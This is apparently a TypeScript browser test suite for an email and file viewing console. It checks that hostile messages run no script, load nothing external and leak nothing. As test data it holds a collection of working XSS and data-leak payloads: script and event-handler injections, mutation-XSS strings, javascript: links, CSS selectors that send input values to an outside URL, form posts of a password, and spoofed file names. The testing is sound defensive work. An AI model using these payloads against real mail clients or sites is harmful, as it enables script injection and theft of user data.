// Mail and files whose senders attack whoever looks at them: nothing of theirs runs, loads, leads or sends.
import assert from 'node:assert/strict'
import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { after, before, describe, test } from 'node:test'
import { missingBrowser, openPage, openStage, type Stage, signIn, type Watched } from './browser.ts'

/** What a script of theirs would leave behind. */
const TRACE = '__reached'

const ATTACKS = (elsewhere: string): readonly string[] => [
  `<script>window.${TRACE}=1;top.${TRACE}=1;parent.${TRACE}=1</script>`,
  `<img src=x onerror="top.${TRACE}=1"><img src="${elsewhere}/pixel.gif"><img srcset="${elsewhere}/set.gif 2x" src="${elsewhere}/one.gif">`,
  `<svg onload="top.${TRACE}=1"><script>top.${TRACE}=1</script><image href="${elsewhere}/svg.png"/><use href="${elsewhere}/u.svg#a"/></svg>`,
  `<svg><style><img src=x onerror=top.${TRACE}=1></style></svg><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.${TRACE}=1&gt;">`,
  `<iframe src="${elsewhere}/frame"></iframe><iframe srcdoc="<script>top.${TRACE}=1</script>"></iframe><object data="${elsewhere}/o"></object><embed src="${elsewhere}/e">`,
  `<meta http-equiv="refresh" content="0;url=${elsewhere}/refresh"><base href="${elsewhere}/"><link rel="stylesheet" href="${elsewhere}/s.css"><link rel="dns-prefetch" href="//elsewhere.example"><link rel="preload" as="image" href="${elsewhere}/p.png">`,
  `<style>@import url(${elsewhere}/import.css);@font-face{font-family:x;src:url(${elsewhere}/font.woff)}body{background:url(${elsewhere}/bg.png);font-family:x}input[value^="a"]{background:url(${elsewhere}/leak?a)}p{cursor:url(${elsewhere}/c.cur),auto;list-style:url(${elsewhere}/l.png)}</style>`,
  `<p style="background-image:url(${elsewhere}/inline.png);position:fixed;inset:0;z-index:99999">over the page</p>`,
  `<a href="javascript:top.${TRACE}=1">click</a><a href="data:text/html,<script>opener.${TRACE}=1</script>" target="_top">data</a><a href="${elsewhere}/go" target="_blank" ping="${elsewhere}/ping">go</a>`,
  `<form action="${elsewhere}/form" method="post"><input name="password" value="abc" autofocus onfocus="top.${TRACE}=1"><button formaction="${elsewhere}/button">Send</button></form>`,
  `<video src="${elsewhere}/v.mp4" autoplay poster="${elsewhere}/poster.png"></video><audio src="${elsewhere}/a.mp3" autoplay></audio><table background="${elsewhere}/t.png"><tr><td background="${elsewhere}/td.png">x</table>`,
  `<body onload="top.${TRACE}=1" background="${elsewhere}/body.png"><details open ontoggle="top.${TRACE}=1">x</details><img name="body"><form id="__proto__"></form>`,
  `<template><script>top.${TRACE}=1</script></template><noscript><p title="</noscript><img src=x onerror=top.${TRACE}=1>"></noscript>`,
]

const NAME = `"><img src=x onerror=top.${TRACE}=1>\u202Egnp.exe`

const messageWith = (html: string): Buffer =>
  Buffer.from(
    [
      `From: "<script>top.${TRACE}=1</script>" <a@example.com>`,
      'To: you@example.com',
      `Subject: <img src=x onerror=top.${TRACE}=1> {{constructor.constructor('top.${TRACE}=1')()}}`,
      'Date: Sat, 31 Jan 2026 12:00:00 +0000',
      'Message-ID: <"><svg/onload=alert(1)>@example.com>',
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary=b',
      '',
      '--b',
      'Content-Type: text/html; charset=utf-8',
      '',
      html,
      '--b',
      `Content-Type: text/plain; name="<img src=x onerror=top.${TRACE}=1>.txt"`,
      `Content-Disposition: attachment; filename="<img src=x onerror=top.${TRACE}=1>.txt"`,
      '',
      'attached',
      '--b--',
      '',
    ].join('\r\n'),
  )

describe('hostile content in the console', { skip: missingBrowser }, () => {
  let stage: Stage
  let watched: Watched
  let elsewhere = ''
  const asked: string[] = []
  const server = createServer((request, response) => {
    asked.push(request.url ?? '')
    response.end()
  })

  before(async () => {
    stage = await openStage()
    watched = await openPage(stage)
    server.listen(0, '127.0.0.1')
    await once(server, 'listening')
    elsewhere = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
    await signIn(watched, stage.service)
  })
  after(async () => {
    server.close()
    await stage.end()
  })

  async function show(name: string, buffer: Buffer): Promise<void> {
    const { page } = watched
    await page.goto(`${stage.service.url}/mail`)
    await page.getByLabel('Choose a file').setInputFiles({ name, mimeType: 'message/rfc822', buffer })
    await page.getByRole('heading', { name: 'What to do' }).waitFor()
  }

  async function assertNothingHappened(): Promise<void> {
    const { page, strangers } = watched
    assert.equal(await page.evaluate(`window.${TRACE}`), undefined)
    for (const frame of page.frames())
      assert.equal(await frame.evaluate(`window.${TRACE}`).catch(() => undefined), undefined)
    assert.deepEqual(strangers, [])
    assert.deepEqual(asked, [])
    assert.equal(new URL(page.url()).origin, stage.service.url)
  }

  test('HTML of a message runs nothing and asks nobody, whichever way it is looked at', async () => {
    const { page } = watched
    // Those that close nothing over the rest.
    await show('mail.eml', messageWith(ATTACKS(elsewhere).slice(6, 12).join('\n')))
    const body = page.frameLocator('iframe').locator('body')
    await body.getByText('over the page').waitFor()
    // Styles of the message's own count within its frame: it is shown as it looks.
    const position =
      "getComputedStyle(document.querySelector('iframe').contentDocument.querySelector('p[style]')).position"
    assert.equal(await page.evaluate(position), 'fixed')
    await page.getByLabel('Reveal hidden text').check()
    for (const name of ['click', 'go'] as const)
      await body
        .getByText(name, { exact: true })
        .click({ timeout: 2000, force: true })
        .catch(() => {})
    for (const name of ['Text', 'Source', 'Rendered'] as const)
      await page.getByRole('tab', { name, exact: true }).click()
    await body.getByText('over the page').waitFor()
    await page.waitForTimeout(500)
    await assertNothingHappened()
  })

  test('each attack by itself, so that no other hides it', async () => {
    for (const attack of ATTACKS(elsewhere)) {
      await show('mail.eml', messageWith(`<p>begin</p>${attack}<p>end</p>`))
      await watched.page.frameLocator('iframe').getByText('begin').waitFor()
    }
    await watched.page.waitForTimeout(300)
    await assertNothingHappened()
  })

  test('a name that turns the writing around or is markup is only a name', async () => {
    const { page } = watched
    await page.goto(`${stage.service.url}/file`)
    await page.getByLabel('Choose a file').setInputFiles({
      name: NAME,
      mimeType: 'text/plain',
      buffer: Buffer.from(
        `#!/bin/sh\n# ${TRACE} <img src=x onerror=top.${TRACE}=1>\necho "<script>top.${TRACE}=1</script>"\n`,
      ),
    })
    await page.getByRole('heading', { name: 'What to do' }).waitFor()
    for (const tab of await page.getByRole('tab').all()) await tab.click()
    assert.equal(await page.locator('bdi img, bdi script, main script').count(), 0)
    await assertNothingHappened()
  })

  test('a message nested ever deeper, and one of five megabytes, are shown all the same', async () => {
    await show('deep.eml', messageWith('<div>'.repeat(100_000)))
    await watched.page.getByRole('tab', { name: 'Source' }).click()
    await show('large.eml', messageWith(`<p>begin</p>${'<p>line of a long message</p>\n'.repeat(150_000)}`))
    await watched.page.getByRole('tab', { name: 'Source' }).click()
    await watched.page.getByRole('list', { name: /Body of the message/ }).waitFor()
    await assertNothingHappened()
  })

  test('another page cannot put the console into a frame', async () => {
    const page = await watched.context.newPage()
    await page.route('http://elsewhere.example/', (route) =>
      route.fulfill({
        contentType: 'text/html',
        body: `<iframe src="${stage.service.url}/"></iframe><iframe src="${stage.service.url}/console/message.html"></iframe>`,
      }),
    )
    await page.goto('http://elsewhere.example/')
    await page.waitForTimeout(500)
    for (const frame of page.frames().slice(1)) assert.ok(!frame.url().startsWith(stage.service.url), frame.url())
    await page.close()
  })

  test('pages and answers say that they may not be framed, and the console allows no script but its own', async () => {
    const { headers } = await fetch(stage.service.url)
    const policy = headers.get('content-security-policy') ?? ''
    assert.equal(headers.get('x-frame-options'), 'DENY')
    for (const part of [
      "default-src 'none'",
      "script-src 'self'",
      "style-src 'self'",
      "frame-ancestors 'none'",
      "require-trusted-types-for 'script'",
    ])
      assert.ok(policy.split('; ').includes(part), part)
    const frame = await fetch(`${stage.service.url}/console/message.html`)
    assert.match(frame.headers.get('content-security-policy') ?? '', /default-src 'none'.*sandbox allow-same-origin$/)
  })
})
